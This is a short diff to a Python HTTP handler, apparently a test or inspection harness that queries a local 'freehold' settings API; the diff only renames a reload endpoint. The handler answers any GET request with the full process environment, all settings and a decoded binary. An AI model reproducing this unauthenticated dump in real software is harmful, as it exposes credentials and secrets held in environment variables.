@@ -71,7 +71,7 @@ def ask(method, path):
     return json.loads(guest.getresponse().read())
 class Handler(http.server.BaseHTTPRequestHandler):
     def do_GET(self):
-        ask("POST", "/freehold/v1/settings/reload")
+        ask("POST", "/freehold/v1/reload")
         binary = ask("GET", "/freehold/v1/settings/BINARY").get("value", "")
         body = json.dumps({"environment": dict(os.environ), "settings": ask("GET", "/freehold/v1/settings"),
                            "binary": base64.b64decode(binary).hex()}).encode()
